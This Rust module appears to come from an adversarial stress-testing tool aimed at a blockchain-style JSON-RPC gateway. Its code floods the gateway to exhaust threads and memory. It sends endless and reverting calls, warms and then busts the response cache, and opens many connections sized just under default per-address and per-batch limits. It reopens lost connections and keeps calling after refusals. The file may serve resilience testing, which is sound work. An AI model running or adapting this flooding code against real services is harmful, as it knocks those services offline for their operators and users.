//! Calls that keep the gateway's threads and memory busy.

use std::convert::Infallible;
use std::io;
use std::sync::Arc;

use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::replies::{PAUSE, path};
use super::{Running, calls};
use crate::hostile::Attacker;
use crate::http1;
use crate::run::AttackContext;

const BATCHES: usize = 60;
const ENDLESS_CALLS: usize = 64;
const REVERTING_CALLERS: usize = 16;

/// Less than one address may have by default.
const CROWD: usize = 900;
/// As many as a batch may have by default.
const CROWD_BATCH_CALLS: usize = 1_000;

/// Answers that are asked for so often are kept.
const KEPT_AFTER: usize = 3;

/// Large replies in each batch.
const KEPT_ANSWERS: u32 = 4;

pub(super) fn batch_held(context: AttackContext) -> Running {
    Box::pin(async move {
        for _ in 0..KEPT_AFTER {
            for number in 0..KEPT_ANSWERS {
                // Refused or not, the batches ask for it again.
                let _refused = ask(&context.attacker, &calls::many_logs(number)).await;
            }
        }
        let logs: Vec<String> = (0..KEPT_ANSWERS).map(calls::many_logs).collect();
        let batch = move |number| format!("[{},{}]", logs.join(","), calls::endless(number));
        ask_always(&context.attacker, context.options.scaled(BATCHES), batch).await;
    })
}

pub(super) fn endless_calls(context: AttackContext) -> Running {
    Box::pin(async move {
        ask_always(&context.attacker, context.options.scaled(ENDLESS_CALLS), calls::endless).await;
    })
}

pub(super) fn large_reverts(context: AttackContext) -> Running {
    Box::pin(async move {
        let body = |number| match calls::large_revert(number) {
            single if number % 2 == 0 => single,
            of_batch => format!("[{of_batch},{}]", calls::balance()),
        };
        ask_always(&context.attacker, context.options.scaled(REVERTING_CALLERS), body).await;
    })
}

pub(super) fn batch_crowd(context: AttackContext) -> Running {
    Box::pin(async move {
        let batch = format!("[{}]", vec![calls::chain_id(); CROWD_BATCH_CALLS].join(","));
        let request = Arc::new(http1::post(&path(), "", batch.as_bytes()));
        let mut crowd = JoinSet::new();
        for _ in 0..context.options.scaled(CROWD) {
            let (attacker, request) = (context.attacker.clone(), Arc::clone(&request));
            crowd.spawn(async move {
                loop {
                    // A connection that is lost is opened again.
                    let _lost = send_always(&attacker, &request).await;
                    sleep(PAUSE).await;
                }
            });
        }
        crowd.join_all().await;
    })
}

/// Sends the same request over one connection until that ends.
async fn send_always(attacker: &Attacker, request: &[u8]) -> io::Result<Infallible> {
    let mut connection = attacker.connect().await?;
    loop {
        connection.stream.write_all(request).await?;
        http1::read_reply(&mut connection.stream).await?;
        attacker.count_request();
    }
}

/// Keeps so many requests under way, each different from all others.
async fn ask_always(
    attacker: &Attacker,
    count: usize,
    body: impl Fn(u32) -> String + Clone + Send + 'static,
) {
    let mut callers = JoinSet::new();
    for place in 0..count as u32 {
        let (attacker, body) = (attacker.clone(), body.clone());
        callers.spawn(async move {
            for round in 0..u32::MAX {
                // The next call follows, whatever the outcome of this one.
                let _outcome = ask(&attacker, &body(place + round * 1_000)).await;
                sleep(PAUSE).await;
            }
        });
    }
    callers.join_all().await;
}

async fn ask(attacker: &Attacker, body: &str) -> io::Result<()> {
    let mut connection = attacker.connect().await?;
    connection.stream.write_all(&http1::post(&path(), "", body.as_bytes())).await?;
    http1::read_reply(&mut connection.stream).await.map(drop)
}
